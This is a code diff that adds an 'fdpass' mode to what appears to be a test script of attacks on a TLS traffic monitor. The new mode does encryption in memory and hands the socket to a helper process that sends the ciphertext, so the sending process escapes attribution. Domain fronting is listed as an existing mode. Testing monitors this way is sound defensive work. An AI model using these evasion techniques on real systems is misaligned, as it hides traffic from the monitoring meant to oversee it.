@@ -19,6 +19,9 @@ Attacks:
   fronting  --data A --front NAME [--sni SNI]: connect to HOST's address
             with Host naming NAME (another provider) and SNI naming SNI
             (default: NAME)
+  fdpass    --data A: TLS through a memory BIO in this process; the
+            socket passed (SCM_RIGHTS) to a helper process that sends the
+            ciphertext
   unlearned --data A --front NAME: HOST is an address no provider has;
             SNI and Host name NAME (a provider); two connections, --wait
             seconds apart (the first one asks for the process's probes)
@@ -140,6 +143,57 @@ def thread(args, ssl):
     attempt("thread", 0, go)
 
 
+SENDER = """
+import socket, sys
+u = socket.socket(fileno=int(sys.argv[1]))
+msg, fds, _, _ = socket.recv_fds(u, 1 << 20, 1)
+s = socket.socket(fileno=fds[0])
+s.sendall(msg)
+u.sendall(b"sent")
+"""
+
+
+def fdpass(args, ssl):
+    import subprocess
+    ctx = ssl.create_default_context()
+    raw = socket.create_connection((args.host, 443), timeout=10)
+    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    obj = ctx.wrap_bio(inc, out, server_hostname=args.host)
+    while True:
+        try:
+            obj.do_handshake()
+            break
+        except ssl.SSLWantReadError:
+            raw.sendall(out.read())
+            inc.write(raw.recv(65536))
+    raw.sendall(out.read())
+    mine, theirs = socket.socketpair()
+    helper = subprocess.Popen([sys.executable, "-c", SENDER, str(theirs.fileno())],
+                              pass_fds=[theirs.fileno()])
+    theirs.close()
+
+    def go():
+        obj.write(request_bytes(args.host, args.data[0]))  # SSL_write here
+        socket.send_fds(mine, [out.read()], [raw.fileno()])  # sent by the helper
+        mine.settimeout(10)
+        if mine.recv(4) != b"sent":  # the helper's send failed
+            raise PermissionError("the helper process could not send")
+        buf = b""
+        while b"\r\n\r\n" not in buf:
+            chunk = raw.recv(65536)
+            if not chunk:
+                return None
+            inc.write(chunk)
+            try:
+                buf += obj.read(65536)
+            except ssl.SSLWantReadError:
+                pass
+        return int(buf.split()[1])
+    attempt("fdpass", 0, go)
+    helper.wait(timeout=10)
+    emit(attack="fdpass-helper", pid_helper=helper.pid)
+
+
 def fork(args, ssl):
     ctx = ssl.create_default_context()
     tls = tls_connect(args.host, ctx)
@@ -213,7 +267,7 @@ def unlearned(args, ssl):
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys",
-                                       "fronting", "unlearned"])
+                                       "fronting", "unlearned", "fdpass"])
     ap.add_argument("host")
     ap.add_argument("--data", action="append", default=[])
     ap.add_argument("--wait", type=float, default=1.5)
@@ -227,7 +281,7 @@ def main():
         return decoys(args)
     import ssl
     {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting,
-     "unlearned": unlearned}[args.attack](args, ssl)
+     "unlearned": unlearned, "fdpass": fdpass}[args.attack](args, ssl)
 
 
 if __name__ == "__main__":
